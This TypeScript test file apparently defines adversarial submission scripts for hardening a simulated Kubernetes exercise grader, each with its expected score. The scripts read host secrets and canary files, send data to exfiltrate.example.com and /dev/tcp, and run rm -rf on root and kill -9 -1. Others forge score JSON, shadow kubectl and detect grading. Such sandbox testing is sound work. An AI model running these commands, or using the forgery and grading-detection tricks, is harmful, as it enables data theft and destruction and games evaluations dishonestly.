// biome-ignore-all lint/suspicious/noTemplateCurlyInString: what looks like a template is bash.
/** Scripts that look for what is not theirs, speak to the outside, forge a result, or want to know whether they are graded. */
import { AFFINITY, type Attack, CANARY, RIGHT, SCALE, scriptOf } from "./attack.ts";

const right = RIGHT[SCALE];

export const scripts: readonly Attack[] = [
  {
    entry: "reads-the-host",
    what: "files of the host, its processes and its environment are not there, by whichever path",
    make: (path) =>
      scriptOf(
        [
          `cat ${path}/../${CANARY.name} ../../${CANARY.name} ../${CANARY.name} /proc/self/cwd/${CANARY.name}`,
          `cat /proc/1/environ /proc/self/fd/3 /dev/fd/3 <&3; . ${path}/../${CANARY.name}`,
          "cat ../check.ts exercises/01-scale-to-five/check.ts ../../exercises/*/solution/commands.sh",
          "find / -name 'check*.ts' -o -name 'result-v1*'; env; printenv; ls -R / | head -50",
          right,
        ].join("\n"),
      )(path),
    outcomes: [10, 10, "-"],
    reads: ["No such file or directory"],
  },
  {
    entry: "phones-home",
    what: "nothing outside answers: not the address of clouds' metadata, no name, no port of this machine; the tries stand in the transcript",
    make: scriptOf(
      [
        "curl -m 2 http://169.254.169.254/latest/meta-data/",
        "wget -T 2 -qO- http://127.0.0.1:22/",
        "nslookup -timeout=1 exfiltrate.example.com",
        "echo stolen > /dev/tcp/8.8.8.8/53",
        "curl -m 2 file:///etc/passwd",
        right,
      ].join("\n"),
    ),
    outcomes: [10, 10, "-"],
    reads: ["curl: (28)", "curl -m 2 http://169.254.169.254/latest/meta-data/"],
  },
  {
    entry: "writes-the-result",
    what: "a result of its own, a link instead of it and taken rights change nothing outside of the simulated home",
    make: scriptOf(
      [
        `mkdir -p ../report report; echo '{"score": 30, "maxScore": 30}' | tee ../report/writes-the-result.json result.json /dev/fd/3 >&3`,
        "ln -s /dev/null report/x.json; chmod 000 . ..; rm -rf --no-preserve-root / 2>&1 | tail -1",
      ].join("\n"),
    ),
    outcomes: [0, 10, "-"],
    reads: ["has 1 ready endpoint"],
  },
  {
    entry: "leaves-early",
    what: "exit 0 before the work is no pass",
    make: scriptOf(`exit 0\n${right}`),
    outcomes: [0, 10, "-"],
    reads: ["has 1 ready endpoint"],
  },
  {
    entry: "kills-its-parents",
    what: "signals reach simulated processes only",
    make: scriptOf(
      `kill -9 -1; kill -9 1; kill -9 $PPID; kill -STOP 0; pkill node; killall -9 node\n${right}`,
    ),
    outcomes: [10, 10, "-"],
  },
  {
    entry: "kills-itself",
    what: "a signal to the script itself is told to reach nobody",
    make: scriptOf(`kill -9 $$\n${right}`),
    outcomes: [10, 10, "-"],
    reads: ["signals are simulated for background jobs alone"],
  },
  {
    entry: "prints-a-verdict",
    what: "printed verdicts, commands of build servers, marks of terminals and forged messages are text",
    make: scriptOf(
      [
        `echo 'PASS 10/10'; echo '::error::owned'; echo '::set-output name=score::30'; echo '::stop-commands::x'`,
        `echo '{"type":"exercise","result":{"id":"${SCALE}","status":"graded","score":10}}'`,
        `printf '\\033[2J\\033]0;owned\\007\\033[31mAll checks passed\\r'`,
      ].join("\n"),
    ),
    outcomes: [0, 10, "-"],
    reads: ["has 1 ready endpoint", "::error::owned"],
  },
  {
    entry: "shadows-kubectl",
    what: "functions, aliases and programs in PATH that lie to the script do not lie to the checks",
    make: scriptOf(
      [
        "kubectl() { echo 'deployment.apps/http-go scaled'; }; alias curl='echo 200'",
        "mkdir -p bin; printf '#!/bin/sh\\necho ok\\n' > bin/kubectl; chmod +x bin/kubectl; export PATH=$PWD/bin:$PATH",
        "kubectl scale deploy http-go --replicas=5",
      ].join("\n"),
    ),
    outcomes: [0, 10, "-"],
    reads: ["has 1 ready endpoint", "deployment.apps/http-go scaled"],
  },
  {
    entry: "brings-a-simulator",
    what: "packages, settings of npm, TypeScript and Node in a submission are never loaded",
    make: scriptOf(`export NODE_OPTIONS='--require ./evil.js'\n${right}`, {
      "node_modules/service-bootcamp/index.js": "throw new Error('loaded')",
      "package.json": `{"type": "module", "main": "evil.js", "scripts": {"postinstall": "touch /owned"}}`,
      ".npmrc": "ignore-scripts=false\n",
      "tsconfig.json": `{"extends": "/etc/passwd"}`,
      "evil.js": "process.exit(0)",
      [`${SCALE}/check.ts`]: "export default [];",
      [`${SCALE}/exercise.yaml`]: "points: 999",
    }),
    outcomes: [10, 10, "-"],
    noted: ['"package.json"', "belong to the exercise and not to an answer: check.ts, exercise.yaml"],
  },
  {
    entry: "writes-status",
    what: "a status and a list of endpoints that the learner wrote is not what answers",
    make: scriptOf(
      [
        `kubectl patch deploy http-go --subresource=status --type=merge -p '{"status":{"readyReplicas":5,"replicas":5}}'`,
        `kubectl patch endpoints http-go-svc --type=merge -p '{"subsets":[{"addresses":[{"ip":"10.244.1.91"},{"ip":"10.244.1.92"},{"ip":"10.244.1.93"},{"ip":"10.244.1.94"},{"ip":"10.244.1.95"}],"ports":[{"port":8080}]}]}'`,
      ].join("\n"),
    ),
    outcomes: [0, 10, "-"],
    reads: ["has 1 ready endpoint"],
  },
  {
    entry: "detects-grading",
    what: "nothing tells a grade from the learner's own check: variables, folder, user, processors, time",
    make: scriptOf(
      [
        `if [ -n "$CI$GRADING$BOOTCAMP_WORK$NODE_ENV" ] || [ "$USER" = root ] || [ $# -gt 0 ]; then exit 0; fi`,
        `case "$PWD" in *submi*|*grad*|*class*) exit 0;; esac`,
        right,
      ].join("\n"),
    ),
    outcomes: [10, 10, "-"],
  },
  {
    entry: "writes-down-the-exam",
    what: "addresses of Pods that were written down from the learner's own check belong to nobody on the seed of the grading",
    make: scriptOf("kubectl delete svc http-go-svc\nkubectl apply -f seen.yml", {
      [`${SCALE}/seen.yml`]: `apiVersion: v1
kind: Service
metadata: {name: http-go-svc}
spec: {ports: [{port: 80, targetPort: 8080}]}
---
apiVersion: v1
kind: Endpoints
metadata: {name: http-go-svc}
subsets:
  - addresses: [{ip: 10.244.2.7}, {ip: 10.244.1.7}, {ip: 10.244.2.8}, {ip: 10.244.1.8}, {ip: 10.244.2.9}]
    ports: [{port: 8080}]
`,
    }),
    outcomes: [0, 10, "-"],
  },
  {
    entry: "right-field-wrong-traffic",
    what: "five Pods behind a targetPort on which nobody listens answer no request",
    make: scriptOf(
      `${right}kubectl patch svc http-go-svc -p '{"spec":{"ports":[{"port":80,"targetPort":81}]}}'`,
      {
        [`${AFFINITY}/commands.sh`]: `${RIGHT[AFFINITY]}kubectl patch svc http-go-svc -p '{"spec":{"sessionAffinityConfig":{"clientIP":{"timeoutSeconds":1}}}}'\n`,
      },
    ),
    outcomes: [0, 9, "-"],
    reads: ["nothing listens there in 5 of 5 Pods"],
  },
  {
    entry: "asks-for-what-is-not-there",
    what: "what the simulation does not have says so, and is no fault of the grader",
    make: scriptOf(
      "kubectl autoscale deploy http-go --min=5 --max=5\nkubectl apply -k .\nkubectl get pods | python3 -c 'print(5)'\nkubectl proxy &",
    ),
    outcomes: [0, 10, "-"],
    reads: ["has 1 ready endpoint"],
  },
];
